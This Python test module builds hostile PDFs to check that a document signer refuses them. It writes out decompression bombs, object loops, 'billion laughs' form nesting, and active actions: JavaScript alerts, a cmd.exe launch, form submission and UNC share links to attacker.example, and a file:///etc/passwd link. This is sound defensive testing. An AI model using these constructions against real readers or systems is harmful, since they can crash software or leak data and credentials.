"""A corpus of hostile PDFs, built on demand (nothing of it is kept in git).

Each case is ``HostileCase(name, build, code)``: ``build(draft)`` makes the file's bytes
(from a real draft, for the cases that hide something in an otherwise good document,
or from raw bytes), ``code`` is the reason class the refusal must carry
(:class:`signer.PdfHostile` ``code``; ``None``: the file must be handled, not refused).
Large cases (the 1.5 GB double-Flate bomb, 100,000 pages) are made once per test
session in a temporary folder.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

#: The bomb's inflated size: a content stream of 1.5 GB of zeros, Flate twice.
BOMB_BYTES = 1536 * 1024 * 1024


def raw_pdf(objects: dict[int, bytes], root: int = 1, *, streams: dict[int, bytes] | None = None,
            ) -> bytes:
    """A PDF written byte by byte (no library repairs or refuses anything): ``objects``
    maps object numbers to their dictionaries; ``streams`` adds stream data to some."""
    streams = streams or {}
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number])
        if number in streams:
            out.write(b"\nstream\n" + streams[number] + b"\nendstream")
        out.write(b"\nendobj\n")
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (size, root, xref))
    return out.getvalue()


def _page_objects(extra_page: bytes = b"", extra_root: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + extra_root + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra_page + b">>",
    }


def _edit(draft: bytes, change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(draft)) as doc:
        change(doc)
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


# ----------------------------------------------------------------------------- loops

def acroform_self_kid(draft: bytes) -> bytes:
    """The issue's 57 KB freezer: a form field that lists itself as its own kid."""
    def change(doc: pikepdf.Pdf) -> None:
        field = doc.make_indirect(Dictionary(FT=Name.Tx, T=String("vong")))
        field.Kids = Array([field])
        doc.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _edit(draft, change)


def page_tree_loop(_: bytes) -> bytes:
    objects = _page_objects()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    return raw_pdf(objects)


def page_tree_shared_kids(_: bytes) -> bytes:
    """Two intermediate nodes each listing the other: a loop one level down."""
    objects = _page_objects()
    objects[2] = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    objects[4] = b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 5 0 R] /Count 1 >>"
    objects[5] = b"<< /Type /Pages /Parent 4 0 R /Kids [4 0 R] /Count 1 >>"
    objects[3] = b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 595 842] >>"
    return raw_pdf(objects)


def outline_loop(_: bytes) -> bytes:
    objects = _page_objects(extra_root=b"/Outlines 4 0 R ")
    objects[4] = b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>"
    objects[5] = b"<< /Title (a) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>"
    objects[6] = b"<< /Title (b) /Parent 4 0 R /Next 5 0 R /Dest [3 0 R /Fit] >>"
    return raw_pdf(objects)


def name_tree_loop(_: bytes) -> bytes:
    objects = _page_objects(extra_root=b"/Names << /Dests 4 0 R >> ")
    objects[4] = b"<< /Kids [5 0 R] >>"
    objects[5] = b"<< /Kids [4 0 R] /Limits [(a) (z)] >>"
    return raw_pdf(objects)


def parent_chain_loop(_: bytes) -> bytes:
    objects = _page_objects(extra_page=b"/Annots [4 0 R] ",
                            extra_root=b"/AcroForm << /Fields [5 0 R] >> ")
    objects[4] = (b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /Parent 5 0 R "
                  b"/P 3 0 R >>")
    objects[5] = b"<< /FT /Tx /T (a) /Parent 6 0 R >>"
    objects[6] = b"<< /T (b) /Parent 5 0 R >>"
    return raw_pdf(objects)


def struct_tree_loop(_: bytes) -> bytes:
    objects = _page_objects(extra_root=b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >> ")
    objects[4] = b"<< /Type /StructTreeRoot /K 5 0 R >>"
    objects[5] = b"<< /Type /StructElem /S /Document /P 4 0 R /K [6 0 R] >>"
    objects[6] = b"<< /Type /StructElem /S /P /P 5 0 R /K [5 0 R] >>"
    return raw_pdf(objects)


def form_xobject_loop(_: bytes) -> bytes:
    objects = _page_objects(extra_page=b"/Contents 4 0 R /Resources << /XObject << /X 5 0 R "
                                       b">> >> ")
    objects[4] = b"<< /Length 6 >>"
    objects[5] = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Length 6 "
                  b"/Resources << /XObject << /X 5 0 R >> >> >>")
    return raw_pdf(objects, streams={4: b"/X Do ", 5: b"/X Do "})


def form_xobject_laughs(_: bytes) -> bytes:
    """A "billion laughs" of forms: each of 30 forms draws the next one twice."""
    objects = _page_objects(extra_page=b"/Contents 4 0 R /Resources << /XObject << /X 10 0 R "
                                       b">> >> ")
    objects[4] = b"<< /Length 6 >>"
    streams = {4: b"/X Do "}
    for level in range(30):
        number = 10 + level
        nxt = b"/XObject << /A %d 0 R /B %d 0 R >>" % (number + 1, number + 1) \
            if level < 29 else b""
        body = b"/A Do /B Do " if level < 29 else b"0 0 1 1 re f "
        objects[number] = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Length %d "
                           b"/Resources << %s >> >>" % (len(body), nxt))
        streams[number] = body
    return raw_pdf(objects, streams=streams)


# ----------------------------------------------------------------------------- bombs

def double_flate(size: int = BOMB_BYTES) -> bytes:
    """``size`` zero bytes, Flate-compressed twice (about 1.5 KB per 1.5 GB)."""
    inner = zlib.compressobj(9)
    block = bytes(16 * 1024 * 1024)
    parts = []
    for _ in range(size // len(block)):
        parts.append(inner.compress(block))
    parts.append(inner.flush())
    return zlib.compress(b"".join(parts), 9)


def double_flate_bomb(data: bytes) -> Callable[[bytes], bytes]:
    def build(_: bytes) -> bytes:
        objects = _page_objects(extra_page=b"/Contents 4 0 R ")
        objects[4] = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(data)
        return raw_pdf(objects, streams={4: data})
    return build


def huge_image(_: bytes) -> bytes:
    """A 100,000 × 100,000 RGB image declared in a few bytes (30 GB decoded)."""
    data = zlib.compress(bytes(1024))
    objects = _page_objects(extra_page=b"/Contents 4 0 R /Resources << /XObject << /Im 5 0 R "
                                       b">> >> ")
    objects[4] = b"<< /Length 8 >>"
    objects[5] = (b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
                  b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode "
                  b"/Length %d >>" % len(data))
    return raw_pdf(objects, streams={4: b"/Im Do  ", 5: data})


def big_plain_stream(_: bytes, size: int = 40 * 1024 * 1024) -> bytes:
    """A 40 MB uncompressed content stream: within the size bounds, costly to hold."""
    data = bytes(size)
    objects = _page_objects(extra_page=b"/Contents 4 0 R ")
    objects[4] = b"<< /Length %d >>" % len(data)
    return raw_pdf(objects, streams={4: data})


def lzw_large(_: bytes) -> bytes:
    """An LZW stream too large to be decoded within bounds (its expansion cannot be capped)."""
    data = bytes(300 * 1024)
    objects = _page_objects(extra_page=b"/Contents 4 0 R ")
    objects[4] = b"<< /Length %d /Filter /LZWDecode >>" % len(data)
    return raw_pdf(objects, streams={4: data})


# ----------------------------------------------------------------------------- nesting

def deep_arrays(depth: int) -> Callable[[bytes], bytes]:
    def build(_: bytes) -> bytes:
        return raw_pdf(_page_objects(extra_page=b"/Junk " + b"[" * depth + b"]" * depth + b" "))
    return build


def deep_dicts(depth: int) -> Callable[[bytes], bytes]:
    def build(_: bytes) -> bytes:
        return raw_pdf(_page_objects(extra_page=b"/Junk " + b"<< /A " * depth + b"1"
                                     + b" >>" * depth + b" "))
    return build


def many_pages(count: int) -> bytes:
    """``count`` pages in a balanced two-level page tree (raw bytes: fast to make)."""
    objects: dict[int, bytes] = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    per = 1000
    groups = (count + per - 1) // per
    first_group = 3
    first_page = first_group + groups
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % (first_group + g) for g in range(groups)), count)
    for g in range(groups):
        pages = range(g * per, min(count, (g + 1) * per))
        objects[first_group + g] = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (
            b" ".join(b"%d 0 R" % (first_page + p) for p in pages), len(pages))
        for p in pages:
            objects[first_page + p] = (b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>"
                                       % (first_group + g))
    return raw_pdf(objects)


# ----------------------------------------------------------------------------- active

def _set_open_action(action: Dictionary | Array) -> Callable[[bytes], bytes]:
    def build(draft: bytes) -> bytes:
        return _edit(draft, lambda d: setattr(d.Root, "OpenAction", action))
    return build


def _link(action: Dictionary, subtype: str = "/Link") -> Callable[[bytes], bytes]:
    def build(draft: bytes) -> bytes:
        def change(doc: pikepdf.Pdf) -> None:
            annot = doc.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype),
                                                 Rect=Array([10, 10, 50, 50]), A=action))
            doc.pages[0].obj.Annots = Array([annot])
        return _edit(draft, change)
    return build


def _annotation(subtype: str, **extra: Any) -> Callable[[bytes], bytes]:
    def build(draft: bytes) -> bytes:
        def change(doc: pikepdf.Pdf) -> None:
            annot = doc.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype),
                                                 Rect=Array([10, 10, 50, 50]), **extra))
            doc.pages[0].obj.Annots = Array([annot])
        return _edit(draft, change)
    return build


def _root(key: str, value: Any) -> Callable[[bytes], bytes]:
    def build(draft: bytes) -> bytes:
        return _edit(draft, lambda d: d.Root.__setitem__(key, value))
    return build


def xfa_with_script(draft: bytes) -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        xfa = doc.make_stream(b'<xdp:xdp><template><script contentType="application/x-'
                              b'javascript">app.alert(1)</script></template></xdp:xdp>')
        doc.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return _edit(draft, change)


def embedded_file(draft: bytes) -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(doc, b"MZ payload", filename="x.exe")
        doc.attachments["x.exe"] = spec
    return _edit(draft, change)


def page_aa(draft: bytes) -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        doc.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://x")))
    return _edit(draft, change)


def widget_submit(draft: bytes) -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        widget = doc.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("gui"),
            Rect=Array([10, 10, 50, 50]),
            A=Dictionary(S=Name.SubmitForm, F=String("http://attacker.example/"))))
        doc.pages[0].obj.Annots = Array([widget])
        doc.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _edit(draft, change)


def _act(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(S=Name(kind), **entries)


@dataclass(frozen=True)
class HostileCase:
    name: str
    build: Callable[[bytes], bytes]
    #: the refusal's reason class; "active" only for drafts (verification reports them)
    code: str


LOOPS = [
    HostileCase("acroform_self_kid", acroform_self_kid, "loop"),
    HostileCase("page_tree_loop", page_tree_loop, "loop"),
    HostileCase("page_tree_shared_kids", page_tree_shared_kids, "loop"),
    HostileCase("outline_loop", outline_loop, "loop"),
    HostileCase("name_tree_loop", name_tree_loop, "loop"),
    HostileCase("parent_chain_loop", parent_chain_loop, "loop"),
    HostileCase("struct_tree_loop", struct_tree_loop, "loop"),
    HostileCase("form_xobject_loop", form_xobject_loop, "loop"),
    HostileCase("form_xobject_laughs", form_xobject_laughs, "objects"),
]

NESTING = [
    HostileCase("deep_arrays_150", deep_arrays(150), "depth"),
    HostileCase("deep_dicts_150", deep_dicts(150), "depth"),
    HostileCase("deep_arrays_5000", deep_arrays(5000), "depth"),
    HostileCase("deep_dicts_5000", deep_dicts(5000), "depth"),
]

SMALL_BOMBS = [
    HostileCase("huge_image", huge_image, "image"),
    HostileCase("lzw_large", lzw_large, "filter"),
]

ACTIVE = [
    HostileCase("openaction_javascript", _set_open_action(
        _act("/JavaScript", JS=String("app.alert(1)"))), "active"),
    HostileCase("openaction_launch", _set_open_action(
        _act("/Launch", F=String("cmd.exe"))), "active"),
    HostileCase("openaction_uri", _set_open_action(
        _act("/URI", URI=String("http://attacker.example/"))), "active"),
    HostileCase("openaction_gotor_unc", _set_open_action(
        _act("/GoToR", F=String("\\\\attacker.example\\share\\x.pdf"),
             D=Array([0, Name.Fit]))), "active"),
    HostileCase("link_gotor_unc", _link(
        _act("/GoToR", F=String("\\\\attacker.example\\share\\x.pdf"),
             D=Array([0, Name.Fit]))), "active"),
    HostileCase("link_gotoe", _link(_act("/GoToE", D=Array([0, Name.Fit]))), "active"),
    HostileCase("link_uri_file", _link(_act("/URI", URI=String("file:///etc/passwd"))),
                "active"),
    HostileCase("link_uri_javascript", _link(_act("/URI", URI=String("javascript:alert(1)"))),
                "active"),
    HostileCase("link_import_data", _link(_act("/ImportData", F=String("x.fdf"))), "active"),
    HostileCase("link_reset_form", _link(_act("/ResetForm")), "active"),
    HostileCase("link_named", _link(_act("/Named", N=Name.Print)), "active"),
    HostileCase("link_rendition", _link(_act("/Rendition", OP=0)), "active"),
    HostileCase("link_chained_next", _link(_act("/GoTo", D=Array([0, Name.Fit]),
                                                Next=_act("/URI", URI=String("http://x")))),
                "active"),
    HostileCase("widget_submit_form", widget_submit, "active"),
    HostileCase("page_additional_actions", page_aa, "active"),
    HostileCase("names_javascript", _root("/Names", Dictionary(JavaScript=Dictionary(
        Names=Array([String("a"), _act("/JavaScript", JS=String("app.alert(1)"))])))),
        "active"),
    HostileCase("xfa_with_script", xfa_with_script, "active"),
    HostileCase("embedded_file", embedded_file, "active"),
    HostileCase("annot_file_attachment", _annotation("/FileAttachment"), "active"),
    HostileCase("annot_richmedia", _annotation("/RichMedia"), "active"),
    HostileCase("annot_3d", _annotation("/3D"), "active"),
    HostileCase("annot_movie", _annotation("/Movie"), "active"),
    HostileCase("annot_sound", _annotation("/Sound"), "active"),
    HostileCase("annot_screen", _annotation("/Screen"), "active"),
    HostileCase("annot_freetext", _annotation("/FreeText"), "active"),
    HostileCase("catalog_collection", _root("/Collection", Dictionary(View=Name.D)),
                "active"),
]

#: What an official document may contain: each of these must still be accepted.
ALLOWED = [
    ("link_uri_https", _link(_act("/URI", URI=String("https://chinhphu.vn/")))),
    ("link_uri_mailto", _link(_act("/URI", URI=String("mailto:vanthu@example.vn")))),
    ("openaction_destination", lambda d: d),
]


def link_goto_page(draft: bytes) -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        annot = doc.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 50, 50]),
            A=_act("/GoTo", D=Array([doc.pages[0].obj, Name.Fit]))))
        doc.pages[0].obj.Annots = Array([annot])
    return _edit(draft, change)


ALLOWED.append(("link_goto_page", link_goto_page))


def slow_content(draft: bytes, repeat: int = 1_500_000) -> bytes:
    """A good draft whose page 1 also carries 1.5 million tiny text operations (about
    30 MB once inflated, under every size bound): quick to check, slow to lay out."""
    def change(doc: pikepdf.Pdf) -> None:
        page = doc.pages[0]
        fonts = page.obj.Resources.get("/Font")
        name = next(iter(fonts.keys())) if fonts else "/F1"
        body = b"BT %s 1 Tf 10 10 Td " % name.encode() + b"(.) Tj " * repeat + b"ET\n"
        page.contents_add(doc.make_stream(body), prepend=False)
    return _edit(draft, change)
